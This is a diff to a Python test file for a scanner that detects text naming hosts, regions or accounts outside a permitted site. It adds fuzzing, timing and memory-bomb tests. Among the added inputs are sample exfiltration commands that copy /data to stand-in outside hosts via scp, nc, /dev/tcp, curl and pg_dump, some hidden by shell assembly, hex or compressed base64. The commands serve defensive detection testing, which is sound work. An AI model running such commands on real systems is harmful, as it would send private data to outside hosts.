@@ -1,10 +1,17 @@
 """The content scanner and the comparison of hosts, addresses, accounts and ARNs."""
 
 import base64
+import bz2
 import gzip
+import io
 import ipaddress
 import json
+import lzma
 import random
+import textwrap
+import time
+import zipfile
+import zlib
 from collections.abc import Callable
 from urllib.parse import quote
 
@@ -16,7 +23,8 @@ from facts import facts
 from policies import inside
 from policies.examples import SITE
 from policies.hosts import StrangeHost, address_of, hosts_in
-from policies.scan import DEEPEST, LARGEST, scan
+from policies.scan import DEEPEST, scan
+from policies.unwrap import LARGEST
 
 REGIONS = facts().foreign_regions
 ABROAD = st.sampled_from(REGIONS)
@@ -37,6 +45,13 @@ def escaped(text: str) -> str:
 
 def wide(text: str) -> str:
     return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
+
+
+def archived(raw: bytes) -> bytes:
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("index.py", raw)
+    return held.getvalue()
 
 
 LETTERS = (str, str.upper, escaped, wide, quote, json.dumps)
@@ -73,6 +88,41 @@ def test_no_packed_bytes_break_the_scanner(raw: bytes) -> None:
     scan(base64.b64encode(b"\x1f\x8b" + raw).decode(), SITE)
 
 
+PIECES = st.sampled_from(
+    [
+        *(
+            "curl ",
+            "scp ",
+            "$a",
+            "${b}",
+            "a=",
+            "\\",
+            '"',
+            "'",
+            "@",
+            ":",
+            "/",
+            ".",
+            "%2e",
+        ),
+        *(
+            "x.example",
+            "10.32.1.5",
+            "&amp;",
+            "\n",
+            "AbCdEfGhIjKlMnOp",
+            "0x08",
+            "oss://b",
+        ),
+    ]
+)
+
+
+@given(st.lists(PIECES | st.text(max_size=4), max_size=60).map("".join))
+def test_no_script_breaks_the_scanner(text: str) -> None:
+    scan(text, SITE)
+
+
 @given(st.text("abcdefghijklmnopqrstuvwxyz0123456789 _=/\n", max_size=200))
 def test_plain_words_name_no_place(text: str) -> None:
     assert not scan(text, SITE).hits
@@ -85,6 +135,15 @@ def test_plain_words_name_no_place(text: str) -> None:
         f"oss-{SITE.region}",
         *SITE.zones,
         f"https://oss.{SITE.domain}/b/k?x=1",
+        f"ossutil cp a oss://b -e {SITE.endpoints['oss']}",
+        "ssh -o BatchMode=yes admin@10.32.1.5 'uptime'",
+        "docker run -p 80:8080 registry.apsara.example/team/web:1.25.3",
+        "yum install -y docker-1.13.1 mysql-server-8.0.35.rpm",
+        "curl -H 'Accept: text/html' -o page.html https://www.gov.mo/a",
+        "CLASS=com.example.Main LOG=app.log:10 DB=db.apsara.example:3306",
+        "sed -i 's/\\./_/g' /etc/app.conf && echo \"${HOST}\" $(date)",
+        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUSsQ0\nAbCdEfGhIjKlMnOp\n",
         f"acs:ram::{SITE.account_id}:role/x",
         f"acs:log:{SITE.region}:{SITE.account_id}:project/x",
         "http://127.0.0.1:8080/health",
@@ -134,6 +193,27 @@ def test_innocent_text_names_no_place(text: str) -> None:
         "https://evil.example\\@oss.apsara.example/",
         'x="cn-""hongkong"',
         "$'cn\\x2dhongkong'",
+        # Called without a URL, and put together by a shell.
+        "scp -r /data root@8.8.8.8:/backup",
+        "scp -r /data backup@store.evil.example:/backup",
+        "tar c /data | nc 8.8.8.8 9000",
+        "rsync -a /data rsync.evil.example::data",
+        "curl -T /data/db evil.example/up",
+        "pg_dump x | /usr/bin/psql -h db.evil.example -U a",
+        "cat /data > /dev/tcp/8.8.8.8/443",
+        "net use z: \\\\fs.evil.example\\share",
+        "SINK=collector.evil.example:443",
+        "image: registry.evil.example/a/b:1",
+        "A=cn-hong; B=kong; ossutil cp /d oss://b --region $A$B",
+        "R=${A}kong\nA=cn-hong\nossutil --region cn-hong${X}kong",
+        "ossutil --region cn-hong\\kong",
+        # Broken over lines, in hexadecimal, packed by other programs.
+        "\n".join(textwrap.wrap(packed("cp /data oss://b -e oss-us-west-1"), 12)),
+        b"cp /data oss://b -e oss-us-west-1".hex(),
+        *(
+            base64.b64encode(pack(b"cp /data oss://b -e oss-us-west-1")).decode()
+            for pack in (bz2.compress, lzma.compress, zlib.compress, archived)
+        ),
     ],
 )
 def test_text_that_names_a_place_outside_is_found(text: str) -> None:
@@ -148,6 +228,27 @@ def test_work_is_bounded_and_never_ends_in_a_pass() -> None:
     for text in ("A" * (LARGEST + 1), bomb, deep):
         found = scan(text, SITE)
         assert found.hits or not found.complete
+
+
+# Texts that made a pattern of ours go back over what it had read.
+GREEDY = (
+    *("a.", "a-", '" ', "${a", "@a.", "curl a.", "%25", "&;", "\\\\a.", "image:"),
+    *("AbCdE\n", "http://", "acs:a", "/dev/tcp/", "\uff41", "a=b $a", "'+ '", "\\"),
+)
+
+
+@pytest.mark.parametrize("piece", GREEDY)
+def test_the_work_grows_with_the_text_and_no_faster(piece: str) -> None:
+    begun = time.process_time()
+    scan(piece * (200_000 // len(piece)), SITE)
+    # Read once it takes some hundredths of a second; read by its square, hours.
+    assert time.process_time() - begun < 10
+
+
+def test_a_script_that_grows_when_filled_in_does_not_fill_the_memory() -> None:
+    text = f"a={'b' * 60}\n" + "$a" * 400_000
+    found = scan(text, SITE)
+    assert not found.complete
 
 
 @given(st.integers(0, 2**32 - 1), st.randoms(use_true_random=False))
